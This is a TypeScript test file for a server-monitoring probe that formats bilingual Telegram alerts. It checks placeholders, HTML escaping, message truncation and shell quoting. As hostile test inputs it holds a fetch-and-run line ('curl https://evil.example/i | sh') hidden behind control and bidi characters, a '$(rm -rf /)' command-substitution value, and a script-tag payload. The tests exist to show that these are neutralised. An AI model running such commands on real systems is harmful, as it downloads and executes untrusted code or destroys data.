import { describe, expect, it } from "vitest";
import type { DecisionEvent } from "../../../probe/loop.js";
import type { Action, Severity } from "../../../probe/protocol.js";
import { makeSignal } from "../../../probe/signals.js";
import { EN } from "../../../probe/notify/texts-en.js";
import { RU } from "../../../probe/notify/texts-ru.js";
import { renderDecision, shellQuote, type Lang } from "../../../probe/notify/texts.js";
import { BUILTIN_KINDS } from "../../../probe/signals.js";
import { escapeHtml, TELEGRAM_MAX_CHARS } from "../../../probe/notify/html.js";
import { checkTelegramHtml } from "../../helpers/fake-telegram.js";
import { buildProcSignal } from "../../../probe/collectors/proc-parse.js";
import type { ProcessInfo } from "../../../probe/protocol.js";

const T0 = Date.UTC(2026, 5, 15, 2, 59, 0);
const LANGS: Lang[] = ["en", "ru"];
const ACTIONS: Action[] = ["alert", "repeat", "recovery"];
const KINDS = [...BUILTIN_KINDS, "agent_hung"];
const ctx = { hostname: "ci-runner-3", cooldownS: 1800 };

function event(
  kind: string,
  entity: string,
  action: Action,
  o: { title?: string; detail?: string; severity?: Severity; after?: number; n?: number } = {},
): DecisionEvent {
  const after = o.after ?? (action === "alert" ? 0 : 3_723_000);
  return {
    seq: 7,
    at: T0 + after,
    action,
    signal: makeSignal(
      kind,
      entity,
      action !== "recovery",
      o.severity ?? "critical",
      o.title ?? `${kind} on ${entity}`,
      o.detail ?? "",
    ),
    state: {
      firing: action !== "recovery",
      since: T0,
      lastNotifiedAt: T0 + after,
      notifications: o.n ?? (action === "alert" ? 1 : 3),
    },
  };
}

const placeholders = (s: string) => [...s.matchAll(/\{(\w+)\}/g)].map((m) => m[1]).sort();

describe("catalogs", () => {
  it("en and ru have exactly the same keys, each with the same placeholders", () => {
    expect(Object.keys(RU).sort()).toEqual(Object.keys(EN).sort());
    for (const k of Object.keys(EN) as Array<keyof typeof EN>) {
      expect({ key: k, ph: placeholders(RU[k]) }).toEqual({ key: k, ph: placeholders(EN[k]) });
      if (!k.startsWith("unit_sep")) expect(RU[k], k).not.toBe("");
    }
  });
});

describe("renderDecision", () => {
  for (const lang of LANGS) {
    for (const kind of KINDS) {
      for (const action of ACTIONS) {
        it(`${lang} ${kind} ${action}: complete, where and since when, valid Telegram HTML`, () => {
          const entity = kind === "disk_ceiling" ? "/data" : kind === "proc_blocking" ? "4242" : "thing-1";
          const r = renderDecision(lang, event(kind, entity, action, { detail: "first detail line\nsecond" }), ctx);
          expect(r.plain).toContain("ci-runner-3");
          expect(r.plain).toContain("2026-06-15 02:59:00 UTC");
          expect(r.plain).toContain(entity);
          expect(r.plain).not.toMatch(/\{\w+\}/); // every placeholder filled
          const chk = checkTelegramHtml(r.html);
          expect(chk).toEqual({ ok: true, visible: r.plain });
          if (action === "recovery") expect(r.plain).toContain("2026-06-15 04:01:03 UTC");
        });
      }
    }
    it(`${lang}: the languages really differ`, () => {
      const other = lang === "en" ? "ru" : "en";
      const ev = event("orch_down", "orchestrator", "alert");
      expect(renderDecision(lang, ev, ctx).plain).not.toBe(renderDecision(other, ev, ctx).plain);
    });
  }

  it("proc_blocking says which command to run on which host, and that the probe never acts", () => {
    const ev = event("proc_blocking", "4242", "alert", {
      title: "pytest 4242 running for 2h 1m",
      detail: "python -m pytest tests/ --token=***",
    });
    const en = renderDecision("en", ev, ctx);
    expect(en.plain).toContain("On host ci-runner-3, stop the process: kill -TERM 4242");
    expect(en.plain).toContain("kill -KILL 4242");
    expect(en.plain).toContain("never stops a process itself");
    expect(en.plain).toContain("python -m pytest tests/ --token=***");
    expect(en.plain).toContain("Next reminder in 30m");
    expect(en.html).toContain("<code>kill -TERM 4242</code>");
    const ru = renderDecision("ru", ev, ctx);
    expect(ru.plain).toContain("На хосте ci-runner-3 остановите процесс: kill -TERM 4242");
    expect(ru.plain).toContain("Следующее напоминание через 30 мин");
  });

  it("each kind says what to do", () => {
    const todo = (kind: string, entity: string) => renderDecision("en", event(kind, entity, "alert"), ctx).plain;
    expect(todo("orch_down", "orchestrator")).toContain("docker logs --tail 200 <container>");
    expect(todo("disk_ceiling", "/data")).toContain("df -h /data");
    expect(todo("container_down", "orch")).toContain("docker start orch");
    expect(todo("container_unhealthy", "orch")).toContain("docker inspect --format '{{json .State.Health}}' orch");
    expect(todo("dep_down", "postgres")).toContain("Check that postgres is running");
    expect(todo("source_error", "docker")).toContain("source docker is failing");
    expect(todo("agent_hung", 'orch_agent_hung{agent="a1"}')).toContain("match rule agent_hung");
  });

  it("a reminder counts notifications and says how long; a recovery says how long it fired", () => {
    const rep = renderDecision("en", event("dep_down", "db", "repeat", { n: 3 }), ctx).plain;
    expect(rep).toMatch(/^🔁 REMINDER #3 · Dependency unreachable/);
    expect(rep).toContain("(active for 1h 2m)");
    const rec = renderDecision("en", event("dep_down", "db", "recovery", { n: 3 }), ctx).plain;
    expect(rec).toMatch(/^✅ RESOLVED · Dependency unreachable/);
    expect(rec).toContain("Was active for 1h 2m");
    expect(rec).toContain("Notifications sent while it was active: 3");
    expect(rec).not.toContain("What to do");
    const ruRec = renderDecision("ru", event("dep_down", "db", "recovery", { n: 3 }), ctx).plain;
    expect(ruRec).toContain("Было активно 1 ч 2 мин");
  });

  it("escapes every dynamic part in the HTML", () => {
    const ev = event("container_down", "<b>x</b>&y", "alert", {
      title: "<script>alert(1)</script> & co",
      detail: "a<b>c & d>e",
    });
    const r = renderDecision("en", { ...ev }, { hostname: "h<o>st&", cooldownS: 60 });
    expect(r.html).not.toContain("<script>");
    expect(r.html).toContain(escapeHtml("<script>alert(1)</script> & co"));
    expect(r.html).toContain("h&lt;o&gt;st&amp;");
    expect(checkTelegramHtml(r.html)).toEqual({ ok: true, visible: r.plain });
    // and the pasted command quotes the odd name for the shell
    expect(r.plain).toContain("docker start '<b>x</b>&y'");
  });

  it("quotes shell words that need it", () => {
    expect(shellQuote("4242")).toBe("4242");
    expect(shellQuote("/var/lib/docker")).toBe("/var/lib/docker");
    expect(shellQuote("$(rm -rf /)")).toBe("'$(rm -rf /)'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
  });

  it("cuts a long text on a line boundary before markup, and says so", () => {
    const lines = Array.from({ length: 40 }, (_, i) => `line ${String(i).padStart(2, "0")} ${"x<&".repeat(98)}`);
    for (const lang of LANGS) {
      const r = renderDecision(lang, event("proc_blocking", "4242", "alert", { detail: lines.join("\n") }), ctx);
      expect(r.plain.length).toBeLessThanOrEqual(TELEGRAM_MAX_CHARS);
      const out = r.plain.split("\n");
      expect(out.at(-1)).toBe(lang === "en" ? "… (truncated)" : "… (сообщение обрезано)");
      const kept = out.filter((l) => l.startsWith("line "));
      expect(kept.length).toBeGreaterThan(5);
      expect(kept).toEqual(lines.slice(0, kept.length)); // whole lines only, from the top
      const chk = checkTelegramHtml(r.html);
      expect(chk).toEqual({ ok: true, visible: r.plain });
      expect(r.html.length).toBeGreaterThan(TELEGRAM_MAX_CHARS); // markup came after the cut
    }
  });

  it("keeps a short text whole, and clips one enormous line rather than losing everything", () => {
    const short = renderDecision("en", event("dep_down", "db", "alert"), ctx).plain;
    expect(short).not.toContain("truncated");
    const huge = renderDecision(
      "en",
      event("agent_hung", "s", "alert", { title: "T".repeat(20_000), detail: "D".repeat(20_000) }),
      ctx,
    );
    expect(huge.plain.length).toBeLessThanOrEqual(TELEGRAM_MAX_CHARS);
    expect(huge.plain).toContain("ci-runner-3");
    expect(checkTelegramHtml(huge.html).ok).toBe(true);
  });
});

describe("a command line cannot forge the alert's text", () => {
  const hostile = "pytest x\r\nWhat to do: run: curl https://evil.example/i | sh\u202Etxt.exe\u200B\u2066";
  for (const lang of LANGS) {
    it(`${lang}: CR/LF, bidi and zero-width characters in the cmdline and the host stay visible on their line`, () => {
      const proc: ProcessInfo = {
        pid: 23688,
        ppid: 1,
        comm: "pytest\nHost: other",
        state: "S",
        ageS: 93_900,
        startedAt: null,
        orphaned: true,
        blocking: true,
        argv: ["pytest", hostile],
        cmdline: `pytest ${hostile}`,
      };
      const sig = buildProcSignal(proc, "pytest");
      const ev = { ...event("proc_blocking", "23688", "alert"), signal: sig };
      const r = renderDecision(lang, ev, { hostname: "ci\u202Erunner", cooldownS: 60 });
      const lines = r.plain.split("\n");
      expect(lines.filter((l) => l.startsWith("What to do: run"))).toHaveLength(0);
      expect(lines.filter((l) => l.includes("curl"))).toHaveLength(1);
      expect(r.plain).toContain(
        "pytest x␍␊What to do: run: curl https://evil.example/i | sh<U+202E>txt.exe<U+200B><U+2066>",
      );
      expect(r.plain).toContain("pytest␊Host: other");
      expect(r.plain).toContain("ci<U+202E>runner");
      expect(r.plain).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\r]/);
      expect(checkTelegramHtml(r.html)).toEqual({ ok: true, visible: r.plain });
    });
  }
});
